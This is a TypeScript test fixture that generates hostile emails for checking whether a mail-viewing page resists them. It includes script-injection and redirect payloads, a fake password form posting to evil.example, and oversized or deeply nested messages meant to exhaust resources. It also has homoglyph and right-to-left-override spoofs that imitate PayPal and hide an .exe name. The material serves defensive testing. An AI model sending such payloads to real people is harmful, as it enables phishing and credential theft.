/** Mails that a page must survive, by what is wrong with them. Sizes are those of the judge's limits. */
export function hostileMails(): Record<string, string> {
  return {
    'scripts, forms and frames': page(
      `<script>location = 'https://evil.example/script'</script>
<img src="https://evil.example/picture" onerror="location = 'https://evil.example/error'">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/form"><input type="password"><button>Confirm</button></form>
<link rel="stylesheet" href="https://evil.example/style"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<a href="javascript:location='https://evil.example/link'">Confirm your password</a>
<svg onload="location = 'https://evil.example/svg'"><style>@import url(https://evil.example/import);</style>`,
    ),
    '10,000 links': page(
      Array.from(
        { length: 10_000 },
        (_, index) => `<a href="https://evil.example/${index}">Confirm your password</a>\n`,
      ).join(''),
    ),
    '25 MB in short lines': `${header('text/plain')}${'Confirm it\n'.repeat(2_200_000)}`,
    '25 MB in attachments': `${header('multipart/mixed; boundary=part')}${attachment.repeat(90)}--part--`,
    'broken MIME': `From: a@evil.example\r\nContent-Type: multipart/mixed; boundary="\r\n\r\n--\u0000${'=?utf-8?B?'.repeat(5000)}`,
    'deep markup': page('<div>'.repeat(60_000)),
    'a header without end': `X-Header: ${'value '.repeat(200_000)}`,
    'look-alike names': `From: =?utf-8?B?${base64('РауРаl')}?= <service@xn--pypal-4ve.example>\r\nSubject: =?utf-8?B?${base64('Your invoice\u202efdp.exe')}?=\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<a href="https://раураl.example/">https://paypal.com/</a> Confirm your password`,
  }
}

function header(type: string): string {
  return `From: a@evil.example\r\nSubject: Confirm your password\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n`
}

function page(markup: string): string {
  return `${header('text/html; charset=utf-8')}${markup}`
}

const attachment = `--part\r\nContent-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${`${'QUJD'.repeat(19)}\r\n`.repeat(3400)}`

function base64(text: string): string {
  return Buffer.from(text).toString('base64')
}
